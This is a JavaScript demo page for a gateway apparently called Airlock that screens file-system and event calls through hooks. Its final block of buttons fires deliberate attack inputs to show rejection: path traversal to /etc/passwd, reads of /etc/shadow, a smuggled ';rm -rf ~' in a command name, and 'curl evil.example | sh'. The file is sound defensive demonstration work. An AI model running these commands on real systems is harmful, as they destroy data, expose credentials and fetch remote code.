// The Airlock demo page: every call below goes through the gateway's hooks before the core.
import { AirlockError, Channel, connect } from "/airlock.js";

const airlock = connect();
const $ = (id) => document.getElementById(id);
const status = $("status");

airlock.ready.then((up) => {
  if (up) {
    status.textContent = "connected";
    status.className = "up";
  }
});
airlock.onClose(({ code, reason }) => {
  status.textContent = `closed (${code}${reason ? `: ${reason}` : ""}); reload the page to reconnect`;
  status.className = "down";
});

function show(outcome) {
  const result = $("result");
  if (outcome instanceof AirlockError) {
    result.dataset.code = outcome.code;
    result.textContent = `rejected: ${outcome.code}\n${outcome.reason}`;
  } else {
    result.dataset.code = "";
    result.textContent = typeof outcome === "string" ? outcome : JSON.stringify(outcome, null, 2);
  }
}

async function run(call) {
  try {
    show(await call());
  } catch (error) {
    show(error instanceof AirlockError ? error : new AirlockError("page-error", String(error)));
  }
}

// The verdict log: one row per message, newest first, at most 200 rows.
let count = 0;
airlock.onVerdict((v) => {
  const row = document.createElement("tr");
  row.dataset.verdict = v.verdict;
  row.dataset.name = v.name ?? "";
  row.dataset.code = v.code ?? "";
  const cells = [
    ++count,
    v.kind ?? "",
    v.name ?? "",
    v.verdict,
    v.code ?? "",
    v.reason ?? "",
    v.hook ? `${v.hook.slice(0, 12)}…` : "(gateway)",
    v.cost_us == null ? "" : v.cost_us.toFixed(1),
  ];
  for (const [index, text] of cells.entries()) {
    const cell = document.createElement("td");
    cell.textContent = text;
    if (index === 3) cell.className = v.verdict;
    if (index === 6 && v.hook) cell.title = v.hook;
    row.append(cell);
  }
  $("verdicts").prepend(row);
  while ($("verdicts").rows.length > 200) $("verdicts").lastElementChild.remove();
});

airlock.listen("fs-changed", (change) => {
  $("result").textContent += `\n(event fs-changed: ${change.path}, ${change.bytes} bytes)`;
});
airlock.listen("core-received", (received) => {
  $("core-received").textContent = JSON.stringify(received.payload, null, 2);
});

const on = (id, call) => $(id).addEventListener("click", () => run(call));

on("list", () => airlock.invoke("fs_list", { path: "." }));
on("read", () => airlock.invoke("fs_read", { path: $("read-path").value }));
on("stream", async () => {
  const chunks = [];
  const channel = new Channel((bytes) => chunks.push(bytes));
  const summary = await airlock.invoke("fs_read", { path: $("read-path").value, channel });
  channel.close();
  const sizes = chunks.map((c) => `${c.constructor.name}(${c.length})`).join(" ");
  const text = new TextDecoder().decode(new Uint8Array(chunks.flatMap((c) => [...c])));
  return `${summary.chunks} chunks in order: ${sizes}\n${text}`;
});
on("write", () =>
  airlock.invoke("fs_write", { path: $("write-path").value, contents: $("write-contents").value }),
);
on("profile", async () => {
  const payload = { user: $("user").value, password: $("password").value, session: { token: "eyJhbGciOi" } };
  const delivered = await airlock.emit("profile", payload);
  return { sent: payload, delivered };
});

on("attack-traversal", () => airlock.invoke("fs_read", { path: "../../etc/passwd" }));
on("attack-absolute", () => airlock.invoke("fs_read", { path: "/etc/shadow" }));
on("attack-encoded", () => airlock.invoke("fs_read", { path: "%2e%2e/%2e%2e/etc/passwd" }));
on("attack-write", () => airlock.invoke("fs_write", { path: "../escape.sh", contents: "rm -rf ~" }));
on("attack-huge", () => airlock.invoke("fs_write", { path: "big.txt", contents: "x".repeat(5 << 20) }));
on("attack-name", () => airlock.invoke("fs_read;rm -rf ~", { path: "notes.txt" }));
on("attack-unknown", () => airlock.invoke("shell_exec", { cmd: "curl evil.example | sh" }));
on("attack-flood", async () => {
  const outcomes = await Promise.allSettled(
    Array.from({ length: 300 }, (_, i) => airlock.emit("tick", { i })),
  );
  const refused = outcomes.filter((o) => o.status === "rejected");
  const codes = [...new Set(refused.map((o) => o.reason.code))].join(", ");
  return `${outcomes.length - refused.length} delivered, ${refused.length} refused (${codes || "none"})`;
});
